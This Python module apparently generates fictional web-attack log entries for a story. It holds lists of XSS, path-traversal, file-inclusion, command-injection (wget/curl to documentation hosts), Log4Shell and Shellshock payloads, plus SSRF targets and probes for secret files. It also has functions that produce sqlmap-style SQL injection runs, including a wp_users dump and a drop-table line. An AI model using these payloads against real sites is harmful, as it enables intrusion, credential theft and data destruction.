"""What attackers send, sorted by what a person who reads it would call it.

Families beside a text are the author's judgement, not a detector's. Log4Shell (2021) and nuclei (2020) are newer than the
story's month: it is there to show today's attacks. Every address and host in a payload is a documentation one.
"""

from __future__ import annotations

import random
from typing import Final

SCRIPTING: Final = (
    "<script>alert({n})</script>", "\"><svg/onload=alert({n})>", "<img src=x onerror=alert({n})>", "'-alert({n})-'",
    "javascript:alert({n})", "\" autofocus onfocus=\"alert({n})", "<body onload=prompt({n})>", "</title><script>confirm({n})</script>",
    "<iframe src=//piege.example/{n}></iframe>", "<details open ontoggle=alert({n})>", "<scr\tipt>alert({n})</script>",
    "\"><script src=//piege.example/{n}.js></script>", "<a href=\"javascript:alert({n})\">x</a>",
)  # fmt: skip
TRAVERSAL: Final = (
    "../../../../etc/passwd", "../../../../../../etc/passwd", "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini",
    "/etc/passwd", "../../../wp-config.php", "../../../../proc/self/environ", "/proc/self/cmdline", "../../../../var/log/nginx/access.log",
    "..%2f..%2f..%2fetc%2fpasswd", "..%c0%af..%c0%af..%c0%afetc/hosts", "../../../../etc/shadow", "file:///etc/passwd",
)  # fmt: skip
INCLUSION: Final = (
    "php://filter/convert.base64-encode/resource=index", "php://filter/read=string.rot13/resource=config", "php://input",
    "http://203.0.113.{n}/c99.txt?", "http://depot.example/r57.txt?", "http://198.51.100.{n}/i/id.txt", "expect://uname",
    "phar://uploads/{n}.jpg/x", "zip://uploads/{n}.zip",
)  # fmt: skip
COMMANDS: Final = (
    ";id", "|whoami", "$(sleep {d})", "`id`", ";wget http://203.0.113.{n}/a.sh", "|uname -a", "&& ping -c {d} 203.0.113.{n}",
    ";curl http://depot.example/x{n}", "{{{{{n}*7}}}}", "${{{n}*{n}}}", "<%= {n}*7 %>", "${{jndi:ldap://203.0.113.{n}:1389/a}}",
)  # fmt: skip
HEADERS: Final = (
    "() {{ :;}}; /bin/ping -c {d} 203.0.113.{n}", "() {{ :;}}; echo vide{n}", "${{jndi:ldap://203.0.113.{n}/o}}",
    "${{${{lower:j}}ndi:${{lower:l}}dap://relais.example/{n}}}", "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:rmi://relais.example/{n}}}",
)  # fmt: skip
FORGERY: Final = (
    "http://169.254.169.254/latest/meta-data/", "http://localhost:6379/", "http://127.0.0.1:{n}/", "gopher://127.0.0.1:3306/_{n}",
    "dict://127.0.0.1:11211/stats", "http://10.0.0.{n}:8080/", "http://[::1]:{n}/", "http://0x7f000001/", "http://192.168.1.{n}/",
)  # fmt: skip
SECRETS: Final = (
    "/.env", "/.env.local", "/.env.bak", "/api/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/.ssh/id_rsa", "/.htpasswd",
    "/wp-config.php.bak", "/wp-config.php~", "/backup.zip", "/backup.sql", "/dump.sql.gz", "/www.zip", "/site.tar.gz", "/sauvegarde.zip",
    "/database.sql", "/phpinfo.php", "/info.php", "/phpmyadmin/", "/pma/", "/adminer.php", "/server-status", "/config.json.bak",
    "/docker-compose.yml", "/actuator/env", "/manager/html", "/.svn/entries", "/.vscode/sftp.json", "/sftp-config.json", "/.DS_Store",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/HNAP1/", "/cgi-bin/luci", "/solr/admin/info/system",
    "/_ignition/execute-solution", "/telescope/requests", "/debug/default/view", "/old.zip", "/db.sql", "/credentials.json",
)  # fmt: skip
PLUGINS: Final = (
    "contact-form-7", "revslider-pro", "wp-symposium", "gravityforms", "mailpoet", "wp-statistics", "duplicator", "wysija-newsletters", "nextgen-gallery",
    "wp-super-cache", "w3-total-cache", "formidable", "ninja-forms", "wordfence", "all-in-one-seo-pack", "download-manager", "wp-job-manager",
    "events-calendar", "petition-maker", "give-donations", "simple-fields", "wp-easycart", "layerslider", "backupbuddy", "easy-forms",
)  # fmt: skip
NAMES: Final = ("admin", "redaction", "webmestre", "campagne", "test", "editeur")

_WORDS: Final = (
    "intranet", "extranet", "membres", "photos", "fichiers", "documents", "interne", "equipe", "agence", "forum", "blog", "boutique", "ancien",
    "nouveau", "brouillon", "presse2", "media", "images", "img", "css2", "js2", "include", "lib", "src", "dist", "public", "prive", "cache",
    "export", "import", "upload", "telecharger", "reports", "stats", "statistiques", "mailing", "lettre", "webmail", "mail", "chat", "wiki",
    "projets", "partenaires", "dons2", "paiement", "carte", "api", "rest", "soap", "services", "app", "mobile", "m", "v1", "v2", "en", "fr", "de",
)  # fmt: skip
_ENDINGS: Final = ("", "/", ".html", ".asp", "2016", "2015", "_2", "-v2", "/index.html", ".cgi")


def missing_paths(dice: random.Random, count: int) -> list[str]:
    """Distinct paths out of a word list, none of which exists or is a secret."""
    every = [f"/{word}{ending}" for word in _WORDS for ending in _ENDINGS]
    return dice.sample(every, min(count, len(every)))


def sql_of_a_tool(dice: random.Random, value: str) -> list[str]:
    """A run in the grammar of the best-known injection tool: constants are drawn once per run, as it does."""
    yes, no, other = dice.sample(range(1000, 9999), 3)
    four = "".join(dice.choices("abcdefghijklmnopqrstuvwxyzABCDEFGH", k=4))
    mark = "71" + "".join(dice.choices(("7a", "78", "6a", "6b", "76", "62", "70"), k=3)) + "71"
    run = [
        f"{value} AND {yes}={yes}",
        f"{value} AND {yes}={no}",
        f"{value}) AND {yes}={yes} AND ({other}={other}",
        f"{value}') AND {yes}={no} AND ('{four}'='{four}",
        f"{value}' AND {yes}={yes} AND '{four}'='{four}",
        f"{value}' AND {yes}={other}-- {four}",
        f"{value} AND (SELECT {no} FROM(SELECT COUNT(*),CONCAT(0x{mark},(SELECT (ELT({no}={no},1))),0x{mark},FLOOR(RAND(0)*2))x "
        "FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
        f"{value} AND EXTRACTVALUE({other},CONCAT(0x5c,0x{mark},(SELECT (ELT({other}={other},1))),0x{mark}))",
        f"{value};SELECT SLEEP(5)#",
        f"{value} AND SLEEP(5)",
        f"{value}' AND SLEEP(5) AND '{four}'='{four}",
        f"{value});SELECT PG_SLEEP(5)--",
        f"{value}' WAITFOR DELAY '0:0:5'--",
        f"{value} ORDER BY 1-- {four}",
        f"{value} ORDER BY {yes}-- {four}",
    ]
    run += [
        f"{value} UNION ALL SELECT {','.join(['NULL'] * columns)}-- {four}"
        for columns in range(1, dice.randrange(3, 14))
    ]
    run.append(f"{value} UNION ALL SELECT NULL,CONCAT(0x{mark},user_login,0x{mark}),NULL FROM wp_users-- {four}")
    return run


def sql_of_a_robot(dice: random.Random, value: str) -> list[str]:
    """A few lines of an old list, tried and left."""
    number = dice.randrange(2, 40)
    every = [
        f"{value}' or '{number}'='{number}",
        f"{value}' and {number}={number}-- ",
        f"-{number} union select 1,2,3,4-- ",
        f"{value} or {number}={number}",
        f"{value}' order by {number}-- ",
        f'{value}" or "a"="a',
        f"{value} and sleep({number})",
        f"-1 union select {number},user_pass,3 from wp_users-- ",
        f"{value}'; drop table t{number}-- ",
    ]
    return dice.sample(every, dice.randrange(2, 6))


def filled(dice: random.Random, texts: tuple[str, ...], count: int) -> list[str]:
    """Some of the texts, with numbers of their own."""
    return [
        text.format(n=dice.randrange(2, 250), d=dice.randrange(2, 9)) if "{" in text else text
        for text in dice.sample(texts, min(count, len(texts)))
    ]
